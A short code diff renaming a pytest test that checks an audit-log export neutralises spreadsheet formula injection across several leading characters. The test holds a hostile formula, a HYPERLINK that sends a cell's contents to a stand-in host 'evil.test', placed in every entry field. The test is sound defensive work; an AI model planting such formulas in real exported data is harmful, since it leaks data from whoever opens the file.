@@ -61,7 +61,7 @@ def test_a_line_of_json_has_the_same_names_with_changes_apart() -> None:
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
-def test_s151_a_cell_that_a_spreadsheet_would_compute_is_text(start: str) -> None:
+def test_s241_a_cell_that_a_spreadsheet_would_compute_is_text(start: str) -> None:
     formula = f'{start}HYPERLINK("https://evil.test?"&A1)'
     hostile = replace(
         ENTRY, actor_name=formula, subject=formula, reason=formula, changes=(formula, "", ""), resources=(formula,)
